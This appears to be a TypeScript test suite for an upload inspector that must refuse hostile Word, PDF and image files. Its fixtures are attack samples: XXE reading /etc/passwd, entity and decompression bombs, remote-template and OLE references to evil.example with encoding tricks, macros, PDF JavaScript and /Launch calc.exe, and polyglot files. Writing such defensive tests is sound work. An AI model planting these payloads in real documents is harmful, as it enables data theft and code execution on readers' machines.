import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync, constants as zlib } from 'node:zlib';
import { inspectFile } from '@server/modules/attachment/inspect-file';
import { aDocx, aJpeg, aJpegClaiming, aPdf, aZip } from '@tests/support/sample-files';
import { strToU8, zipSync } from 'fflate';

const inspect = (bytes: Buffer, name = '协议.docx') =>
  inspectFile(async (offset, length) => bytes.subarray(offset, offset + length), bytes.length, name);

/** Written by LibreOffice Writer. */
const aReal = (name: string): Buffer => readFileSync(join('tests/fixtures/word', name));
const DOCUMENT = '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="x"><w:body/></w:document>';
/** As Word writes it, deflated; parts are replaced or added. */
const aWordFile = (parts: Record<string, string | Uint8Array> = {}): Buffer =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries({
          '[Content_Types].xml': '<Types xmlns="x"/>',
          'word/document.xml': DOCUMENT,
          ...parts,
        }).map(([name, text]) => [name, typeof text === 'string' ? strToU8(text) : text]),
      ),
    ),
  );
const relation = (type: string, target: string): Buffer =>
  aWordFile({
    'word/_rels/document.xml.rels': `<Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  });
const aNumbered = (): Buffer =>
  aZip([
    { name: '[Content_Types].xml', content: '<Types xmlns="x"/>' },
    { name: 'word/document2.xml', content: DOCUMENT },
  ]);
const FRAME = 'Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"';
const relations = (tags: string): Buffer =>
  aWordFile({
    'word/_rels/document.xml.rels': `<Relationships xmlns="x" xmlns:p="x">${tags}</Relationships>`,
  });
const sideways = (text: string): Buffer =>
  aWordFile({ 'word/_rels/document.xml.rels': utf16(`<Relationships xmlns="x">${text}</Relationships>`) });
const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>';
const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${'<!ENTITY b "&a;&a;">'.repeat(9)}]><x>&b;</x>`;
const utf16 = (text: string): Uint8Array => Buffer.from(`\ufeff${text}`, 'utf16le');
const bigEndian = (text: string): Uint8Array => Buffer.from(utf16(text)).swap16();

/** A part whose local header has another name than the central directory. */
const twoNames = (): Buffer => {
  const bytes = aDocx([{ name: 'word/safe.xml', content: '<x/>' }]);
  bytes.write('word/evil.xml', bytes.indexOf('word/safe.xml'));
  return bytes;
};

describe('a Word file [req:attack-a56 req:attack-a58 req:attack-a59]', () => {
  it.each<[string, Buffer]>([
    ['asks for a file of the reader’s machine', aWordFile({ 'word/document.xml': XXE })],
    ['asks so in a side part', aWordFile({ 'customXml/item1.xml': XXE })],
    ['asks so in its types', aWordFile({ '[Content_Types].xml': XXE })],
    ['asks so in UTF-16', aWordFile({ 'word/document.xml': utf16(XXE) })],
    ['asks so in UTF-16 the other way round', aWordFile({ 'word/document.xml': bigEndian(XXE) })],
    [
      'asks so in an encoding of few',
      aWordFile({ 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><x/>' }),
    ],
    [
      'asks so in an encoding of few, behind a mark',
      aWordFile({ 'word/document.xml': '\ufeff<?xml version="1.0" encoding="UTF-7"?><x/>' }),
    ],
    ['grows when it is read', aWordFile({ 'word/styles.xml': LAUGHS })],
    [
      'hides its beginning behind words',
      aWordFile({ 'word/document.xml': `<!--${'甲乙丙'.repeat(200_000)}-->${XXE}` }),
    ],
    ['unpacks without end', aWordFile({ 'word/document.xml': `${DOCUMENT}${' '.repeat(900_000)}` })],
    ['has a part twice', aDocx([{ name: 'WORD/document.xml', content: DOCUMENT }])],
    ['has a part of two names', twoNames()],
    ['is no XML inside', aWordFile({ 'word/document.xml': 'MZ' })],
  ])('that %s is refused', async (_what, bytes) => {
    expect(await inspect(bytes)).toEqual({ problem: 'damaged' });
  });

  it.each<[string, Buffer]>([
    ['a template of another machine', relation('attachedTemplate', 'https://evil.example/t.dotm')],
    ['a template of a share', relation('attachedTemplate', '\\\\evil.example\\t.dotm')],
    ['a template of a share by address', relation('attachedTemplate', 'file://evil.example/t.dotm')],
    [
      'a template of a share, as Word writes it',
      relation('attachedTemplate', 'file:///\\\\evil.example\\t.dotm'),
    ],
    ['a template of a share behind slashes', relation('attachedTemplate', 'file:////evil.example/t.dotm')],
    [
      'a template of a share behind escapes',
      relation('attachedTemplate', 'file:///%5C%5Cevil.example/t.dotm'),
    ],
    ['an object of another machine', relation('oleObject', 'http://evil.example/x.html!')],
    [
      'a handler of help files',
      relation('oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x'),
    ],
    ['a frame of another machine', relation('frame', 'http://evil.example/')],
    ['a picture of another machine', relation('image', 'https://evil.example/seen.png')],
    ['a picture of a share', relation('image', '\\\\evil.example\\seen.png')],
    ['a template under a prefix', relations(`<p:Relationship ${FRAME}/>`)],
    ['a template behind a sign like an end', relations(`<Relationship Id="a>" ${FRAME}/>`)],
    ['a template behind another sign like one', relations(`<Relationship Id='">' ${FRAME}/>`)],
    [
      'a template whose letters are written in numbers',
      relations(
        `<Relationship ${FRAME.replace('External', '&#69;xtern&#x61;l').replace('https', '&#104;ttps').replace('Templ', '&#x54;empl')}/>`,
      ),
    ],
    ['a template behind a space', relation('attachedTemplate', ' \thttps://evil.example/t.dotm')],
    ['a template of a share, one sign of each', relation('attachedTemplate', '/\\evil.example\\t.dotm')],
    ['a template whose kind ends with a space', relation('attachedTemplate ', 'https://evil.example/t.dotm')],
    ['data of another machine', relation('mailMergeSource', 'https://evil.example/people.odc')],
    ['what no program has written yet', relation('somethingNew', 'https://evil.example/')],
    ['a template that calls itself a link', relations(`<Relationship p:Type="/hyperlink" ${FRAME}/>`)],
    [
      'a template before a link in another value',
      relations(`<Relationship ${FRAME} Id=" Type='/hyperlink'"/>`),
    ],
    // In UTF-16, a byte of these signs is a quote, or the beginning of a tag.
    ['a template beside a sign like a quote', sideways(`<Relationship Id="∀" ${FRAME}/>`)],
    ['a template beside a sign like a tag', sideways(`<Relationship Id="㰀" ${FRAME}/>`)],
    [
      'a macro that only its relation tells',
      relations('<Relationship Id="r1" Type="http://x/2006/relationships/vbaProject" Target="a.bin"/>'),
    ],
    [
      'a control that only its relation tells',
      relations('<Relationship Id="r1" Type="http://x/relationships/control" Target="a.xml"/>'),
    ],
    ['a macro', aWordFile({ 'word/vbaProject.bin': 'x' })],
    ['a macro under a name of its own', aWordFile({ 'word/VBAPROJECT.BIN': 'x' })],
    ['a control', aWordFile({ 'word/activeX/activeX1.xml': '<x/>' })],
  ])('with %s is refused', async (_what, bytes) => {
    expect(await inspect(bytes)).toEqual({ problem: 'active' });
  });

  it.each<[string, Buffer]>([
    ['as Word writes it', aWordFile()],
    ['as Word on the web numbers it', aNumbered()],
    ['in UTF-16', aWordFile({ 'word/document.xml': utf16('<?xml version="1.0" encoding="UTF-16"?><x/>') })],
    ['stored, not packed', aDocx()],
    ['with a link to click on', relation('hyperlink', 'https://example.com/')],
    [
      'with the template of the writer’s own machine',
      relation('attachedTemplate', 'file:///C:\\Templates\\a.dotm'),
    ],
    ['with a link to a share', relation('hyperlink', 'file:///\\\\server\\a.docx')],
    [
      'with a link written sideways',
      sideways(`<Relationship ${FRAME.replace('attachedTemplate', 'hyperlink')}/>`),
    ],
    ['with a formula', aWordFile({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['with a picture', aWordFile({ 'word/media/image1.png': new Uint8Array(5000) })],
  ])('%s is taken', async (_what, bytes) => {
    expect(await inspect(bytes)).toHaveProperty('type');
  });
});

describe('a file of two kinds [req:attack-a58]', () => {
  const html = Buffer.from('<html><script>alert(1)</script></html>');
  it.each<[string, string, string, Buffer]>([
    ['a page before the PDF', 'extension', '报告.pdf', Buffer.concat([html, aPdf()])],
    [
      'a picture of vectors',
      'extension',
      '图.jpg',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
    ],
    [
      'an animation before the archive',
      'extension',
      '图.jpg',
      Buffer.concat([Buffer.from('GIF89a'), aZip([{ name: 'a' }])]),
    ],
    [
      'a picture before the archive',
      'extension',
      '图.jpg',
      Buffer.concat([aJpeg(), aZip([{ name: 'a.class' }])]),
    ],
    [
      'a document before the program',
      'damaged',
      '协议.docx',
      Buffer.concat([aWordFile(), Buffer.from('MZ')]),
    ],
    [
      'a program before the document',
      'extension',
      '协议.docx',
      Buffer.concat([Buffer.from('MZ'), aWordFile()]),
    ],
    [
      'a test virus',
      'extension',
      '报告.pdf',
      Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
    ],
    ['a real document with a password to open it', 'encrypted', '协议.docx', aReal('password.docx')],
    ['a real document of the format before DOCX', 'extension', '协议.docx', aReal('before-docx.doc')],
    [
      'one with a password, cut before its table of contents',
      'extension',
      '协议.docx',
      aReal('password.docx').subarray(0, 600),
    ],
    ['a document called a picture', 'extension', '图.jpg', aWordFile()],
    ['a page called twice', 'extension', '报告.pdf.html', aPdf()],
  ])('%s is refused for what it is: %s', async (_what, problem, name, bytes) => {
    expect(await inspect(bytes, name)).toEqual({ problem });
  });
});

/** A PDF with these additional objects, in a compressed object stream if `packed` is given. */
const aPdfWith = (objects: string, packed?: { dictionary?: string; bytes?: Buffer }): Buffer => {
  const whole = aPdf();
  const at = whole.indexOf('2 0 obj');
  const bytes = packed && (packed.bytes ?? deflateSync(objects));
  const dictionary = packed?.dictionary ?? '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode';
  const extra = bytes
    ? [`7 0 obj\n<< ${dictionary} /Length ${bytes.length} >>\nstream\n`, bytes, '\nendstream\nendobj\n']
    : [`7 0 obj\n${objects}\nendobj\n`];
  return Buffer.concat(
    [whole.subarray(0, at), ...extra, whole.subarray(at)].map((part) =>
      Buffer.from(part as string, 'latin1'),
    ),
  );
};
const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
/** Unpacking yields the script before it fails. */
const brokenOff = (objects: string): Buffer =>
  Buffer.concat([deflateSync(objects, { finishFlush: zlib.Z_SYNC_FLUSH }), Buffer.from([7])]);
const HARMLESS = '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/) >> >>';

describe('a PDF [req:attack-a58]', () => {
  it.each<[string, Buffer]>([
    ['a script', aPdfWith(SCRIPT)],
    ['a script whose name is written in numbers', aPdfWith(SCRIPT.replace('/JavaScript', '/J#61vaScr#69pt'))],
    ['a script among packed objects', aPdfWith(SCRIPT, {})],
    ['a script among packed objects that break off', aPdfWith('', { bytes: brokenOff(SCRIPT) })],
    [
      'a script among packed objects of a masked kind',
      aPdfWith(SCRIPT, { dictionary: '/Type /Obj#53tm /Filter /FlateDecode' }),
    ],
    [
      'a script among packed objects behind a text like an end',
      aPdfWith(SCRIPT, { dictionary: '/Type /ObjStm /X (endobj 9 0 obj) /Filter /FlateDecode' }),
    ],
    [
      'a script among packed objects whose kind is named far away',
      aPdfWith(SCRIPT, {
        dictionary: `/Type /ObjStm /X (${'x'.repeat(5000)}) /N 1 /First 4 /Filter /FlateDecode`,
      }),
    ],
    [
      'a script among packed objects whose kind is told elsewhere',
      aPdfWith(SCRIPT, { dictionary: '/Type 9 0 R /N 1 /First 4 /Filter /FlateDecode' }),
    ],
    [
      'packed objects nobody can look into',
      aPdfWith(SCRIPT, { dictionary: '/Type /ObjStm /Filter [/LZWDecode /FlateDecode]' }),
    ],
    ['a program to start', aPdfWith('<< /S /Launch /F (calc.exe) >>')],
    ['a film that runs', aPdfWith('<< /Subtype /RichMedia >>')],
    ['a form that draws itself', aPdfWith('<< /XFA 9 0 R >>')],
    ['a form that draws itself, in parts', aPdfWith('<< /Fields [] /XFA[(template) 9 0 R] >>')],
    ['a form that draws itself behind a remark', aPdfWith('<< /X#46A %\n9 0 R >>')],
    ['a form that draws itself among packed objects', aPdfWith('<< /XFA 9 0 R >>', {})],
  ])('with %s is refused', async (_what, bytes) => {
    expect(await inspect(bytes, '报告.pdf')).toEqual({ problem: 'active' });
  });

  it('whose packed objects grow without end is refused', async () => {
    const bomb = aPdfWith('', { bytes: deflateSync(Buffer.alloc(70 * 1024 * 1024, 32)) });
    expect(await inspect(bomb, '报告.pdf')).toEqual({ problem: 'damaged' });
  });

  it.each<[string, Buffer]>([
    ['a link', aPdfWith(HARMLESS)],
    ['packed objects', aPdfWith(HARMLESS, {})],
    ['an ordinary form', aPdfWith('<< /AcroForm << /Fields [9 0 R] >> /Title (XFA [1]) /XFAX 1 >>')],
    ['letters like it among its bytes', aPdfWith('<< /Title (/XFA\u00e0) >>')],
    ['a word like it', aPdfWith('<< /Title (JavaScript) /JavaScripts 1 >>')],
  ])('with %s is taken', async (_what, bytes) => {
    expect(await inspect(bytes, '报告.pdf')).toEqual({ type: 'application/pdf' });
  });
});

describe('a document made to be looked at without end [req:attack-a61]', () => {
  const UNITS = [
    '/XFA%',
    '%/XFA\n',
    '/XFA ',
    'stream\n',
    '/ObjStm stream\n',
    '#41',
    '/First ',
    ' obj',
    'startxref 1 ',
  ];
  const TAGS = ['<?xml', '<?xml encoding ', '<Relationship ', '<Relationship "', '<x "\'', '&#', '<!', '<a:'];
  type Made = (length: number) => Buffer;
  const [BRIEF, LONG] = [75_000, 300_000];
  const GLANCE_MS = 500;
  /** For a document four times as long, quadratic work grows by 16. */
  const GROWTH_MAX = 9;
  const many = (unit: string, length: number): string => unit.repeat(length / unit.length);
  it.each<[string, string, Made]>([
    ...UNITS.map((unit): [string, string, Made] => [
      `a PDF of ${JSON.stringify(unit)}`,
      '报告.pdf',
      (length) => Buffer.from(`%PDF-1.7\n${many(unit, length)}\n%%EOF`),
    ]),
    ...TAGS.map((unit): [string, string, Made] => [
      `a Word file of ${unit}`,
      '协议.docx',
      (length) => relations(many(unit, length)),
    ]),
  ])('%s takes time by its length, not by the square of it', async (_what, name, make) => {
    /** Other load only adds time, so the shortest of three measurements counts; the first suffices if it is short. */
    const took = async (length: number): Promise<number> => {
      const bytes = make(length);
      let shortest = Infinity;
      for (let turn = 0; turn < 3 && shortest > GLANCE_MS; turn++) {
        const began = performance.now();
        await inspect(bytes, name);
        shortest = Math.min(shortest, performance.now() - began);
      }
      return shortest;
    };
    const long = await took(LONG);

    if (long > GLANCE_MS) expect(long / (await took(BRIEF))).toBeLessThan(GROWTH_MAX);
  });
});

describe('a picture [req:attack-a58]', () => {
  it.each<[string, Buffer]>([
    ['claims more than it has', aJpegClaiming(50_000, 50_000)],
    ['has nothing behind its head', aJpeg().subarray(0, 20)],
  ])('that %s is refused', async (_what, bytes) => {
    expect(await inspect(bytes, '图.jpg')).toEqual({ problem: 'damaged' });
  });

  it('that would take all memory is refused, and told so', async () => {
    const huge = Buffer.concat([aJpegClaiming(12_000, 12_000), Buffer.alloc(200_000)]);
    expect(await inspect(huge, '图.jpg')).toEqual({ problem: 'pixels' });
  });

  it('as a camera takes it is taken', async () => {
    expect(await inspect(aJpeg(), '图.jpg')).toEqual({ type: 'image/jpeg', width: 16, height: 16 });
  });
});
